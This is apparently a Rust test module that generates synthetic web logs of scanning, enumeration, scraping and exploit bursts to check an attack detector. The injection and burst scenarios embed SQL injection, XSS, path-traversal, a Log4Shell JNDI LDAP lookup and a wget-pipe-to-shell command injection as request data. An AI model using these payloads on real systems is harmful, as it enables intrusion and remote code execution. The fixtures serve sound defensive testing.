//! Paths guessed, weaknesses probed, numbers counted through, pages copied under a false name.

use super::expect::{ATTACK, Expectation, START_S, Scenario, found, nothing};
use super::scene::{around, hostile, times};
use crate::traffic::people::{Person, home};
use crate::traffic::robots::{self, GOOGLEBOT};
use crate::traffic::row::combined;
use crate::traffic::sites::{BLOG, SHOP, Site};
use crate::traffic::{Draw, Row, agents, together};

const SEARCH: &[&str] = &["content_discovery", "vuln_scan"];

/// A path that a list of a scanner holds.
fn guess(n: u64) -> String {
    const NAMES: [&str; 12] = [
        "backup", "admin", "old", "test", "db", "dump", "config", "install", "shell", "upload",
        "panel", "tmp",
    ];
    const TAILS: [&str; 7] = [".zip", ".php", ".sql", "/", ".bak", ".tar.gz", "/.git/HEAD"];
    let name = NAMES[(n % 12) as usize];
    format!("/{name}{}{}", n / 84, TAILS[(n / 12 % 7) as usize])
}

fn scanner(n: u64) -> Person {
    let agent = agents::current()[(n % 3) as usize].clone();
    Person { home: home(7_000 + n, 9), agent, returns: false }
}

/// One address asks for `count` guessed paths at a steady pace, answered as `answer` says.
fn guesses(
    site: &Site,
    (count, pace_s): (u64, f64),
    answer: impl Fn(u64) -> (i32, i64),
) -> Vec<Row> {
    let ask = |n: u64| {
        let mut row = scanner(0).asks(site, START_S + n as f64 * pace_s, &guess(n));
        (row.status, row.bytes) = answer(n);
        row
    };
    hostile((0..count).map(ask).collect())
}

fn scan(seed: u64, scan: Vec<Row>, within_s: f64) -> Scenario {
    let rows = together(vec![around(&BLOG, 1.5, 600.0, seed), scan]);
    let expect = Expectation { sources: 1.0, ..found(BLOG.host, SEARCH, within_s) };
    Scenario { rows: combined(rows), expect }
}

pub fn refused_by_the_edge(seed: u64) -> Scenario {
    scan(seed, guesses(&BLOG, (400, 0.3), |_| (403, 150)), 120.0)
}

/// Everything is moved to https first, and the scanner does not follow.
pub fn moved_to_https(seed: u64) -> Scenario {
    scan(seed, guesses(&BLOG, (400, 0.4), |_| (301, 178)), 300.0)
}

/// Each path twice, with and without TLS for example.
pub fn asked_twice(seed: u64) -> Scenario {
    let first = guesses(&BLOG, (200, 0.8), |_| (404, 2_900));
    let mut again = first.clone();
    for row in &mut again {
        row.ts += 400_000;
    }
    scan(seed, together(vec![first, again]), 300.0)
}

/// A site that answers whatever is asked for with one and the same page.
pub fn catch_all(seed: u64) -> Scenario {
    scan(seed, guesses(&BLOG, (400, 0.4), |_| (200, 12_345)), 300.0)
}

pub fn refused_405(seed: u64) -> Scenario {
    scan(seed, guesses(&BLOG, (300, 0.4), |_| (405, 310)), 300.0)
}

pub fn refused_406(seed: u64) -> Scenario {
    scan(seed, guesses(&BLOG, (300, 0.4), |_| (406, 226)), 300.0)
}

pub fn refused_421(seed: u64) -> Scenario {
    scan(seed, guesses(&BLOG, (300, 0.4), |_| (421, 322)), 300.0)
}

/// 25 paths every ten minutes for five hours.
pub fn slow(seed: u64) -> Scenario {
    let ask = |n: u64| {
        let at = START_S + (n / 25) as f64 * 600.0 + (n % 25) as f64 * 3.0;
        let mut row = scanner(2).asks(&BLOG, at, &guess(n));
        (row.status, row.bytes) = (404, 2_900);
        row
    };
    let rows = hostile((0..750).map(ask).collect());
    let rows = together(vec![around(&BLOG, 1.5, 18_000.0, seed), rows]);
    let expect = Expectation { sources: 1.0, ..found(BLOG.host, SEARCH, 10_800.0) };
    Scenario { rows: combined(rows), expect }
}

/// Statements put into the parameters of pages that exist.
pub fn injection(seed: u64) -> Scenario {
    const TRIES: [&str; 6] = [
        "page=1%27%20UNION%20SELECT%20NULL,NULL,NULL--%20",
        "page=1%20AND%20SLEEP(5)",
        "page=1%27%20OR%20%271%27=%271",
        "page=%3Cscript%3Ealert(1)%3C/script%3E",
        "page=..%2F..%2F..%2Fetc%2Fpasswd",
        "page=1;SELECT%20pg_sleep(5)--",
    ];
    let mut draw = Draw::of(seed, 81);
    let mut rows = Vec::new();
    for n in 0..60_u64 {
        let (path, _) = (SHOP.page)(3 + 7 * draw.below(12));
        let mut row = scanner(1).asks(&SHOP, START_S + n as f64 * 4.0, &path);
        row.query = Some(format!("{}{n}", TRIES[(n % 6) as usize]));
        if draw.chance(0.2) {
            (row.status, row.bytes) = (500, 640);
        }
        rows.push(row);
    }
    let rows = together(vec![around(&SHOP, 4.0, 240.0, seed), hostile(rows)]);
    let expect =
        Expectation { sources: 1.0, ..found(SHOP.host, &["vuln_scan", "exploit_burst"], 240.0) };
    Scenario { rows: combined(rows), expect }
}

/// `/user/1` to `/user/800`, every other of which exists.
pub fn enumeration(seed: u64) -> Scenario {
    let ask = |n: u64| {
        let mut row = scanner(3).asks(&SHOP, START_S + n as f64 * 0.6, &format!("/user/{}", n + 1));
        if n % 2 == 1 {
            (row.status, row.bytes) = (404, 2_900);
        }
        row
    };
    let rows = hostile((0..800).map(ask).collect());
    let rows = together(vec![around(&SHOP, 4.0, 480.0, seed), rows]);
    let expect =
        Expectation { sources: 1.0, ..found(SHOP.host, &["enumeration", "scraping"], 300.0) };
    Scenario { rows: combined(rows), expect }
}

/// `/profile?id=1` to 900, two of five of which exist.
pub fn enumeration_in_queries(seed: u64) -> Scenario {
    let mut draw = Draw::of(seed, 85);
    let ask = |n: u64| {
        let mut row = scanner(3).asks(&SHOP, START_S + n as f64 * 0.4, "/profile");
        row.query = Some(format!("id={}", 1_000 + n));
        if draw.chance(0.6) {
            (row.status, row.bytes) = (404, 2_900);
        }
        row
    };
    let rows = hostile((0..900).map(ask).collect());
    // People look at theirs, and find it.
    let visits = times(&mut Draw::of(seed, 86), (0.0, START_S + 900.0), 0.1);
    let visit = |(n, at): (u64, f64)| {
        let mut row = Person::visitor(n % 300).asks(&SHOP, at, "/profile");
        row.query = Some(format!("id={}", n * 7));
        row
    };
    let visits = (0..).zip(visits).map(visit).collect();
    let rows = together(vec![around(&SHOP, 4.0, 360.0, seed), visits, rows]);
    let expect = Expectation {
        sources: 1.0,
        named: 1.0,
        visitors: 0,
        ..found(SHOP.host, &["enumeration"], 60.0)
    };
    Scenario { rows: combined(rows), expect }
}

/// A client of an app walks through orders that are not its own: refused by all but the few that are.
pub fn orders_of_others(seed: u64) -> Scenario {
    let ask = |n: u64| {
        let path = format!("/api/v2/orders/{}", 71_000 + n);
        let mut row = scanner(8).asks(&SHOP, START_S + n as f64 * 0.25, &path);
        if !n.is_multiple_of(7) {
            (row.status, row.bytes) = (403, 80);
        }
        row
    };
    let rows = hostile((0..1_200).map(ask).collect());
    let visit = |n: u64| {
        let path = format!("/api/v2/orders/{}", 50_000 + 31 * n);
        Person::visitor(n).asks(&SHOP, n as f64 * 20.0, &path)
    };
    let visits = (0..260).map(visit).collect();
    let rows = together(vec![around(&SHOP, 6.0, 300.0, seed), visits, rows]);
    let expect = Expectation {
        sources: 1.0,
        named: 1.0,
        visitors: 0,
        requests: 0.95,
        ..found(SHOP.host, &["enumeration", "scraping", "content_discovery"], 60.0)
    };
    Scenario { rows, expect }
}

/// A page of forty members, of whom most have no picture: whoever opens it asks for all of them.
pub fn pictures_of_members(seed: u64) -> Scenario {
    pictures(0.02, true, seed)
}

/// The same in an app, which names no page.
pub fn pictures_in_an_app(seed: u64) -> Scenario {
    pictures(0.1, false, seed)
}

fn pictures(per_s: f64, is_page: bool, seed: u64) -> Scenario {
    let mut draw = Draw::of(seed, 88);
    let mut rows = Vec::new();
    for at in times(&mut draw, (0.0, START_S + 900.0), per_s) {
        let person = SHOP.person(draw.below(900));
        let first = draw.below(5_000);
        rows.push(person.asks(&SHOP, at, "/members"));
        for n in 0..40 {
            let mut row = person.asks(&SHOP, at + 0.3 + 0.05 * n as f64, "/api/avatar");
            row.query = Some(format!("user={}", first + n));
            row.referer = is_page.then(|| format!("https://{}/members", SHOP.host));
            if draw.chance(0.7) {
                (row.status, row.bytes) = (404, 30);
            }
            rows.push(row);
        }
    }
    let rows = together(vec![around(&SHOP, 4.0, 0.0, seed), rows]);
    Scenario { rows: combined(rows), expect: nothing() }
}

/// A program that asks every six seconds for what is gone, each time under a number of its own.
pub fn asks_for_what_is_gone(seed: u64) -> Scenario {
    let ask = |n: u64| {
        let mut row = scanner(6).asks(&SHOP, START_S + n as f64 * 6.0, "/api/state");
        row.query = Some(format!("order=77&_={}", 1_741_000_000_000 + n * 6_000));
        (row.status, row.bytes) = (404, 60);
        row
    };
    let all = (0..600).map(ask).collect();
    let served = |n: u64| Person::visitor(n).asks(&SHOP, n as f64 * 40.0, "/api/state");
    let served = (0..100).map(served).collect();
    let rows = together(vec![around(&SHOP, 4.0, 3_600.0, seed), served, all]);
    Scenario { rows: combined(rows), expect: nothing() }
}

/// 25 homes copy page after page of a shop, each one a second, and name each page itself as where they came from.
pub fn scrapers_with_own_referers(seed: u64) -> Scenario {
    let mut draw = Draw::of(seed, 87);
    let mut rows = Vec::new();
    for who in 0..25 {
        let person = Person { home: home(7_200 + who, 5), ..Person::visitor(91_000 + who) };
        for at in times(&mut draw, (START_S + 1.0, START_S + 480.0), 1.0) {
            let (path, query) = (SHOP.page)(draw.below(SHOP.pages));
            let referer = Some(format!("https://{}{path}", SHOP.host));
            rows.push(Row { query, referer, ..person.asks(&SHOP, at, &path) });
        }
    }
    let rows = together(vec![around(&SHOP, 20.0, 480.0, seed), hostile(rows)]);
    let expect = Expectation {
        verdicts: ATTACK,
        sources: 1.0,
        named: 1.0,
        collateral: 0.01,
        ..found(SHOP.host, &["scraping", "http_flood"], 60.0)
    };
    Scenario { rows, expect }
}

/// Claims to be Googlebot, comes from 120 networks, reads eight pages a second.
pub fn false_googlebot(seed: u64) -> Scenario {
    let mut draw = Draw::of(seed, 82);
    let mut rows = Vec::new();
    for at in times(&mut draw, (START_S, START_S + 600.0), 8.0) {
        let ip = home(7_500 + draw.below(120), draw.below(2)).ip;
        let (path, query) = (SHOP.page)(draw.below(SHOP.pages));
        let row = robots::asks(&SHOP, at, ip, &GOOGLEBOT.into(), path);
        rows.push(Row { query, ..row });
    }
    let rows = together(vec![around(&SHOP, 6.0, 600.0, seed), hostile(rows)]);
    let expect = Expectation {
        sources: 0.9,
        // The name is that of the true one as well, a twentieth of what is ordinary here.
        collateral: 0.08,
        ..found(SHOP.host, &["scraping", "swarm", "http_flood"], 300.0)
    };
    Scenario { rows: combined(rows), expect }
}

/// One address copies page after page, one a second, and nothing else.
pub fn scraper_of_sixty_a_minute(seed: u64) -> Scenario {
    let mut draw = Draw::of(seed, 83);
    let all = times(&mut draw, (START_S, START_S + 1_200.0), 1.0);
    let ask = |(n, at): (usize, f64)| scanner(4).asks(&BLOG, at, &(BLOG.page)(n as u64 % 400).0);
    let rows = hostile(all.into_iter().enumerate().map(ask).collect());
    let rows = together(vec![around(&BLOG, 1.5, 1_200.0, seed), rows]);
    let expect = Expectation { sources: 1.0, ..found(BLOG.host, &["scraping"], 900.0) };
    Scenario { rows: combined(rows), expect }
}

/// A list of paths worked through by 600 machines of one botnet, six a second; each asks for a few.
pub fn by_many(seed: u64) -> Scenario {
    let mut draw = Draw::of(seed, 61);
    let all = times(&mut draw, (START_S, START_S + 300.0), 6.0);
    let ask = |(n, at)| {
        let mut row = scanner(draw.below(600)).asks(&BLOG, at, &guess(n));
        (row.status, row.bytes) = (404, 2_900);
        row
    };
    let rows = hostile((0..).zip(all).map(ask).collect());
    let rows = together(vec![around(&BLOG, 1.5, 300.0, seed), rows]);
    let expect = Expectation { requests: 0.8, ..found(BLOG.host, SEARCH, 120.0) };
    Scenario { rows: combined(rows), expect }
}

/// A weakness that became known today, tried on every site by 90 machines, once or a few times by each.
fn burst(site: &Site, seed: u64, text: impl Fn(&mut Row, u64)) -> Vec<Row> {
    let mut draw = Draw::of(seed, 62);
    let mut rows = Vec::new();
    for who in 0..90 {
        let from = START_S + draw.between(0.0, 200.0);
        let home = home(8_000 + draw.below(2_000), who);
        let agent = agents::current()[draw.below(20) as usize].clone();
        let person = Person { home, agent, returns: false };
        for n in 0..draw.several(1.8, 5) {
            let mut row = person.asks(site, from + n as f64 * 2.0, "/");
            text(&mut row, who * 10 + n);
            rows.push(row);
        }
    }
    hostile(rows)
}

/// A lookup for a logging library to follow, in the query of the start page.
pub fn burst_in_queries(seed: u64) -> Scenario {
    let rows = burst(&SHOP, seed, |row, n| {
        row.query = Some(format!("x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.{}%2Fa%7D", n % 200));
    });
    let rows = together(vec![around(&SHOP, 4.0, 300.0, seed), rows]);
    let expect = found(SHOP.host, &["exploit_burst"], 150.0);
    Scenario { rows: combined(rows), expect }
}

/// A program of a router, asked for with a command: the site has none, and says so or fails.
pub fn burst_of_commands(seed: u64) -> Scenario {
    let rows = burst(&BLOG, seed, |row, n| {
        row.path = "/cgi-bin/luci/;stok=/locale".into();
        row.query = Some(format!("form=country&country=%24%28wget+http%3A%2F%2Fx{n}%2Fa%7Csh%29"));
        (row.status, row.bytes) = if n % 3 == 0 { (500, 640) } else { (404, 2_900) };
    });
    let rows = together(vec![around(&BLOG, 1.5, 300.0, seed), rows]);
    let expect = found(BLOG.host, &["exploit_burst"], 150.0);
    Scenario { rows: combined(rows), expect }
}

/// Reads page after page as a browser would that has everything else in its cache.
fn reader(site: &Site, (seed, who): (u64, u64), per_minute: f64, last_s: f64) -> Vec<Row> {
    let mut draw = Draw::of(seed, 84 + who);
    let all = times(&mut draw, (START_S, START_S + last_s), per_minute / 60.0);
    let ask = |at: f64| {
        let (path, _) = (site.page)(draw.below(site.pages));
        let mut row = scanner(20 + who).asks(site, at, &path);
        row.referer = Some(format!("https://{}/", site.host));
        row
    };
    all.into_iter().map(ask).collect()
}

/// Four addresses under browsers' names, each at a pace that a person could keep up for a minute, for forty.
pub fn scraper_of_fifteen_a_minute(seed: u64) -> Scenario {
    let mut rows: Vec<Vec<Row>> =
        (0..4).map(|who| hostile(reader(&BLOG, (seed, who), 15.0, 2_400.0))).collect();
    rows.push(around(&BLOG, 1.5, 2_400.0, seed));
    let expect = Expectation { sources: 1.0, ..found(BLOG.host, &["scraping"], 2_400.0) };
    Scenario { rows: combined(together(rows)), expect }
}

/// People who read for an hour what they have most of in their caches.
pub fn readers_for_an_hour(seed: u64) -> Scenario {
    let mut rows: Vec<Vec<Row>> =
        (0..4).map(|who| reader(&BLOG, (seed, who), 2.5, 3_600.0)).collect();
    rows.push(around(&BLOG, 1.5, 3_600.0, seed));
    Scenario { rows: combined(together(rows)), expect: nothing() }
}
